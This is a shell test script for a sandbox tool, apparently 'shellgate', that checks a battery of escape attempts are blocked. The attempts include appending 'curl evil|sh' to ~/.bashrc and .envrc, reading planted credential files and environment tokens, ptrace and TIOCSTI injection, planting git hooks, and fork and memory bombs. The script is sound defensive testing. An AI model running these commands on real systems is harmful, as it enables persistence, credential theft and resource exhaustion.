#!/bin/sh
# tests/sandbox/t-escape.sh - every attempt to get out must fail inside
# `shellgate exec`.
#
# Each attempt is a shell snippet run inside the sandbox after `echo RAN`;
# it prints ESCAPED when it got what it wanted. A test passes when the
# sandbox started (RAN), nothing printed ESCAPED, and the host-side check
# (when there is one) still holds. Where it makes sense the same snippet is
# first run outside the sandbox and must print ESCAPED there: otherwise the
# attempt proves nothing and the test fails.
. "$(dirname "$0")/sandbox_lib.sh"
require_sandbox

# attempt NAME CONTROL SNIPPET [HOSTCHECK]
attempt() {
	_name=$1 _control=$2 _snip=$3 _check=${4:-true}
	if [ "$_control" = control ]; then
		_c=$(cd "$P" && as_user env -i HOME="$UHOME" PATH=/usr/bin:/bin $SBX_ENV /bin/sh -c "$_snip" 2>&1 </dev/null)
		case $_c in
		*ESCAPED*) ;;
		*) notok "$_name" "control: the attempt does not work even outside the sandbox: $_c"; return 0 ;;
		esac
	fi
	_out=$(sbx $SBX_OPTS -- /bin/sh -c "echo RAN; $_snip" 2>&1 </dev/null)
	case $_out in
	*RAN*) ;;
	*) notok "$_name" "the sandbox did not start: $_out"; return 0 ;;
	esac
	case $_out in
	*ESCAPED*) notok "$_name" "$_out"; return 0 ;;
	esac
	if ! sh -c "$_check"; then
		notok "$_name" "host check failed: $_check; output: $_out"
		return 0
	fi
	ok "$_name"
}
SBX_OPTS=""

# ---- fixtures: secrets in home and project, a git repository ---------------------
as_user sh -c "
	mkdir -p '$UHOME/.ssh' '$UHOME/.aws' '$UHOME/.gnupg' '$UHOME/.docker' '$UHOME/.kube' '$P/sub'
	echo SECRET-SSH > '$UHOME/.ssh/id_rsa'; chmod 600 '$UHOME/.ssh/id_rsa'
	echo SECRET-AWS > '$UHOME/.aws/credentials'
	echo SECRET-NETRC > '$UHOME/.netrc'
	echo SECRET-HIST > '$UHOME/.bash_history'
	echo SECRET-DOCKER > '$UHOME/.docker/config.json'
	echo SECRET-KUBE > '$UHOME/.kube/config'
	echo SECRET-OUTSIDE > '$WORK/outside.txt'
	echo SECRET-DOTENV > '$P/.env'
	echo SECRET-DOTENV > '$P/sub/.env.local'
	echo SECRET-PEM > '$P/deploy.pem'
	ln -s '$UHOME/.ssh/id_rsa' '$P/leak'
	cd '$P' && git init -q . && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m init
"
if [ "$(id -u)" = 0 ]; then
	echo SECRET-OTHER > /home/sgother/public.txt
	chmod 755 /home/sgother
	chmod 644 /home/sgother/public.txt
fi

# ---- filesystem: writes outside the project --------------------------------------------
attempt "write into home outside the project" no "echo x > '$WORK/w-home'" "test ! -e '$WORK/w-home'"
attempt "append to ~/.bashrc" no "echo 'curl evil|sh' >> '$UHOME/.bashrc'" "! grep -q evil '$UHOME/.bashrc' 2>/dev/null"
attempt "write into the host /tmp" no "echo x > /tmp/sg-escape-$$" "test ! -e /tmp/sg-escape-$$"
attempt "write into /var/tmp" no "echo x > /var/tmp/sg-escape-$$ && echo ESCAPED" "test ! -e /var/tmp/sg-escape-$$"
attempt "write into /etc and /usr" no "touch /etc/sg-x /usr/sg-x && echo ESCAPED" "test ! -e /etc/sg-x"
attempt "create files in the sandbox root" no "touch /sg-x && echo ESCAPED; mkdir /sgdir && echo ESCAPED"

# ---- filesystem: reads of secrets -------------------------------------------------------------
for f in .ssh/id_rsa .aws/credentials .netrc .bash_history .docker/config.json .kube/config; do
	attempt "read ~/$f" control "grep -q SECRET '$UHOME/$f' && echo ESCAPED"
done
attempt "read a file outside the project" control "grep -q SECRET '$WORK/outside.txt' && echo ESCAPED"
attempt "read .env in the project" control "grep -q SECRET .env && echo ESCAPED"
attempt "read sub/.env.local in the project" control "grep -q SECRET sub/.env.local && echo ESCAPED"
attempt "read *.pem in the project" control "grep -q SECRET deploy.pem && echo ESCAPED"
attempt "symlink in the project to ~/.ssh/id_rsa" control "grep -q SECRET leak && echo ESCAPED"
attempt "list ~/.ssh" control "ls '$UHOME/.ssh' | grep -q id_rsa && echo ESCAPED"
if [ "$(id -u)" = 0 ]; then
	attempt "read another user's world-readable file" control "grep -q SECRET /home/sgother/public.txt && echo ESCAPED"
else
	skip "read another user's world-readable file" "needs root to create the other user"
fi
attempt "find secrets through /proc/1/root" no "cat /proc/1/root'$UHOME'/.ssh/id_rsa 2>/dev/null | grep -q SECRET && echo ESCAPED"

# ---- environment ------------------------------------------------------------------------
SBX_ENV="ANTHROPIC_API_KEY=SECRET-ENV GITHUB_TOKEN=SECRET-ENV AWS_SECRET_ACCESS_KEY=SECRET-ENV MY_SERVICE_TOKEN=SECRET-ENV DB_PASSWORD=SECRET-ENV SSH_AUTH_SOCK=/tmp/SECRET-ENV"
attempt "secrets in the environment" control "env | grep -q SECRET-ENV && echo ESCAPED"
attempt "secrets in pid 1's environment" no "cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -q 'SECRET-EN[V]' && echo ESCAPED"
attempt "secrets in any /proc/*/environ or cmdline" no "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -q 'SECRET-EN[V]' && echo ESCAPED"
SBX_ENV=""

# ---- network ----------------------------------------------------------------------------
PORT=$((20000 + $$ % 20000))
as_user $PY - "$PORT" "$WORK/tcp.log" "$WORK/udp.log" "$WORK/agent.sock" "sg-abs-$$" <<'PYEOF' &
import socket, sys, threading, os
port, tlog, ulog, upath, aname = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5]
def serve(s, log):
    while True:
        c, _ = s.accept(); open(log, "a").write("conn\n"); c.close()
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); t.bind(("127.0.0.1", port)); t.listen()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", port))
a = socket.socket(socket.AF_UNIX); a.bind("\0" + aname); a.listen()
f = socket.socket(socket.AF_UNIX); f.bind(upath); f.listen()
for s, l in ((t, tlog), (a, tlog), (f, tlog)):
    threading.Thread(target=serve, args=(s, l), daemon=True).start()
open(tlog, "a").close()
while True:
    d, _ = u.recvfrom(512); open(ulog, "a").write("dgram\n")
PYEOF
LISTENER=$!
kill_listener() { pkill -KILL -u "$U" -f "sg-abs-$$" 2>/dev/null; kill $LISTENER 2>/dev/null; }
cleanup_hooks="$cleanup_hooks kill_listener"
for _i in 1 2 3 4 5 6 7 8 9 10; do [ -e "$WORK/tcp.log" ] && break; sleep 0.1; done
attempt "TCP to a service on the host's loopback" control "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT' 2>/dev/null && echo ESCAPED"
: > "$WORK/udp.log"
attempt "UDP to the host's loopback (DNS-style query)" no \
	"$PY -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b\"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01\", (\"127.0.0.1\", $PORT))' 2>/dev/null; bash -c 'echo hi > /dev/udp/127.0.0.1/$PORT' 2>/dev/null; sleep 0.2" \
	"sleep 0.2; ! grep -q dgram '$WORK/udp.log'"
attempt "a route to any outside address" no "$PY -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect((\"192.0.2.1\", 53)); print(\"ESCAPED\")' 2>/dev/null; ip route 2>/dev/null | grep -q default && echo ESCAPED"
attempt "name resolution" no "getent ahosts example.com >/dev/null 2>&1 && echo ESCAPED"
attempt "abstract unix socket on the host" control "$PY -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0sg-abs-$$\"); print(\"ESCAPED\")' 2>/dev/null"
attempt "filesystem unix socket outside (ssh-agent style)" control "$PY -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"$WORK/agent.sock\"); print(\"ESCAPED\")' 2>/dev/null"
attempt "docker.sock" no "for s in /run/docker.sock /var/run/docker.sock /run/user/*/docker.sock /run/user/*/podman/podman.sock; do test -S \$s && echo ESCAPED \$s; done"

# ---- processes --------------------------------------------------------------------------------
PTRACE="import ctypes,sys; l=ctypes.CDLL(None); r=l.ptrace(16, int(sys.argv[1]), 0, 0); print('ESCAPED' if r == 0 else 'denied')"
attempt "ptrace the parent (pid 1)" no "$PY -c \"$PTRACE\" 1"
SBX_OPTS="--profile build"
attempt "ptrace the parent under --profile build (ptrace inside allowed)" no "$PY -c \"$PTRACE\" 1"
SBX_OPTS=""
attempt "read pid 1's memory" no "$PY -c 'open(\"/proc/1/mem\",\"rb\"); print(\"ESCAPED\")' 2>/dev/null"
as_user sh -c 'echo $$ > "$1"; exec sleep 300' sh "$WORK/victim.pid" &
for _i in 1 2 3 4 5 6 7 8 9 10; do [ -s "$WORK/victim.pid" ] && break; sleep 0.1; done
VICTIM=$(cat "$WORK/victim.pid")
kill_victim() { kill "$VICTIM" 2>/dev/null; }
cleanup_hooks="$cleanup_hooks kill_victim"
attempt "signal a process outside" no "kill -9 $VICTIM 2>/dev/null; kill -9 -1 2>/dev/null; true" "kill -0 $VICTIM"
attempt "see processes outside" no "ls /proc | grep -qx $VICTIM && echo ESCAPED; test \$(ls -d /proc/[0-9]* | wc -l) -gt 5 && echo ESCAPED"
if command -v script >/dev/null 2>&1; then
	TIOCSTI="import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, b'x'); print('ESCAPED')"
	out=$(cd "$P" && as_user script -qec "env -i PATH=/usr/bin:/bin HOME=$UHOME $SG exec -- $PY -c \"$TIOCSTI\"; echo RAN" /dev/null 2>&1)
	case $out in
	*ESCAPED*) notok "TIOCSTI into the terminal" "$out" ;;
	*RAN*) ok "TIOCSTI into the terminal" ;;
	*) notok "TIOCSTI into the terminal" "did not run: $out" ;;
	esac
else
	skip "TIOCSTI into the terminal" "script(1) not installed (needed for a pty)"
fi

# ---- kernel surface ----------------------------------------------------------------------
attempt "nested user namespace" control "unshare -Ur true 2>/dev/null && echo ESCAPED"
attempt "nested mount namespace + mount" no "unshare -rm mount -t tmpfs none /mnt 2>/dev/null && echo ESCAPED; mount -t tmpfs none /tmp 2>/dev/null && echo ESCAPED"
IOURING="import ctypes; l=ctypes.CDLL(None); p=ctypes.create_string_buffer(120); fd=l.syscall(425, 4, p); print('ESCAPED' if fd >= 0 else 'no')"
attempt "io_uring" control "$PY -c \"$IOURING\""
if [ "$(id -u)" = 0 ]; then
	SUID=/usr/local/bin/sg-suid-id-$$
	cp /usr/bin/id "$SUID" && chmod 4755 "$SUID"
	rm_suid() { rm -f "$SUID"; }
	cleanup_hooks="$cleanup_hooks rm_suid"
	attempt "setuid-root binary" control "test \$($SUID -u) = 0 && echo ESCAPED"
else
	skip "setuid-root binary" "needs root to create the setuid fixture"
fi
attempt "su / sudo" no "echo x | su -c id root 2>/dev/null | grep -q uid=0 && echo ESCAPED; sudo -n id 2>/dev/null | grep -q uid=0 && echo ESCAPED"

# ---- the project's dangerous files --------------------------------------------------------------
attempt "write .git/hooks/pre-commit" no "echo 'echo pwned' > .git/hooks/pre-commit && echo ESCAPED" "test ! -e '$P/.git/hooks/pre-commit'"
attempt "set core.hooksPath in .git/config" no "git config core.hooksPath /tmp/h 2>/dev/null && echo ESCAPED" "! git -C '$P' config core.hooksPath >/dev/null"
attempt "rename .git and rebuild its hooks" no "mv .git .git-moved 2>/dev/null && echo ESCAPED" "test -d '$P/.git' && test ! -e '$P/.git-moved'"
attempt "create .claude/settings.json" no "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json" "test ! -e '$P/.claude' && ls -d '$P'/.claude.shellgate-blocked-* >/dev/null 2>&1"
attempt "create .envrc" no "echo 'curl evil|sh' > .envrc" "test ! -e '$P/.envrc'"
attempt "create .vscode/tasks.json" no "mkdir -p .vscode && echo '{}' > .vscode/tasks.json" "test ! -e '$P/.vscode/tasks.json'"
attempt "hard link to a file outside" no "ln /etc/passwd hl 2>/dev/null && echo ESCAPED; ln '$WORK/outside.txt' hl2 2>/dev/null && echo ESCAPED" "test ! -e '$P/hl2'"
attempt "hard link to .git/config, then write" no "ln .git/config cfg 2>/dev/null && echo '[core]hooksPath=/x' >> cfg && echo ESCAPED" "! grep -q hooksPath '$P/.git/config'"
attempt "symlink out of the project, then write through it" no "ln -s '$WORK/planted' p && echo data > p" "test ! -e '$WORK/planted'"

# ---- inherited descriptors, lifetime, limits ---------------------------------------------
out=$(cd "$P" && as_user sh -c "exec 7<'$UHOME/.ssh/id_rsa' 8>>'$WORK/fd8'; env -i PATH=/usr/bin:/bin HOME=$UHOME $SG exec -- /bin/sh -c 'echo RAN; cat <&7 2>/dev/null | grep -q SECRET && echo ESCAPED; echo x >&8 2>/dev/null && echo ESCAPED'" 2>&1)
case $out in
*ESCAPED*) notok "inherited file descriptors" "$out" ;;
*RAN*) if [ -s "$WORK/fd8" ]; then notok "inherited file descriptors" "fd 8 written"; else ok "inherited file descriptors"; fi ;;
*) notok "inherited file descriptors" "did not run: $out" ;;
esac
attempt "outlive the sandbox (background, setsid, nohup)" no \
	"setsid sleep 177 >/dev/null 2>&1 & (nohup sleep 178 >/dev/null 2>&1 &) ; sleep 0.1" \
	"sleep 0.2; ! pgrep -u $U -f 'sleep 17[78]' >/dev/null"
(cd "$P" && as_user env -i PATH=/usr/bin:/bin HOME="$UHOME" "$SG" exec -- sleep 179) &
sleep 0.5
SGPID=$(pgrep -u "$U" -f "exec -- sleep 179" | head -1)
if [ -n "$SGPID" ]; then
	kill -9 "$SGPID"
	sleep 0.3
	if pgrep -u "$U" -f "^sleep 179" >/dev/null; then
		notok "survive the death of shellgate" "sleep 179 still running"
		pkill -u "$U" -f "^sleep 179"
	else
		ok "survive the death of shellgate"
	fi
else
	notok "survive the death of shellgate" "could not find the shellgate process"
fi

# shellgate's cache (resolved profiles, seccomp filters, rule snapshots) is
# trusted by the next run outside: even where a profile shows it (here it
# lies in the writable project), it stays hidden and cannot be swapped.
as_user mkdir -p -m 700 "$P/xdg/cache/shellgate"
SBX_ENV="XDG_CACHE_HOME=$P/xdg/cache"
sbx -- /bin/true >/dev/null 2>&1	# fills the cache
attempt "the cache of shellgate is hidden and cannot be replaced" no \
	"ls xdg/cache/shellgate 2>/dev/null | grep -q bin && echo ESCAPED-READ
	 touch xdg/cache/shellgate/x 2>/dev/null && echo ESCAPED-WRITE
	 mv xdg xdg2 2>/dev/null && echo ESCAPED-RENAME
	 mv xdg/cache xdg/c2 2>/dev/null && echo ESCAPED-RENAME2
	 mv xdg/cache/shellgate xdg/cache/s2 2>/dev/null && echo ESCAPED-RENAME3
	 true" "ls '$P/xdg/cache/shellgate' | grep -q '^profile-' && test ! -e '$P/xdg/cache/shellgate/x'"
SBX_ENV=""

cat > "$WORK/tight.json" <<'JSON'
{ "format": 1, "sandbox": { "profiles": { "tight": { "extends": "default",
  "rlimits": { "nproc": 64, "as": "1G", "fsize": "10M", "cpu": 20 } } } } }
JSON
chmod 644 "$WORK/tight.json"
SBX_OPTS="--rules $WORK/tight.json --profile tight"
FORKBOMB="import os,time
n=0
for i in range(2000):
    try:
        if os.fork()==0:
            time.sleep(5); os._exit(0)
        n+=1
    except OSError:
        break
print('ESCAPED' if n>=2000 else 'forks=%d'%n)
assert n < 100, n"
attempt "fork bomb is bounded (nproc 64)" no "$PY -c \"$FORKBOMB\"; kill -9 -1 2>/dev/null; true"
attempt "memory bomb is bounded (as 1G)" no "$PY -c 'b=bytearray(3<<30); print(\"ESCAPED\")' 2>/dev/null"
attempt "disk filler is bounded (fsize 10M)" no "head -c 20000000 /dev/zero > big 2>/dev/null; test \$(stat -c %s big) -gt 10485760 && echo ESCAPED" "test \$(stat -c %s '$P/big') -le 10485760"
SBX_OPTS=""

tap_done
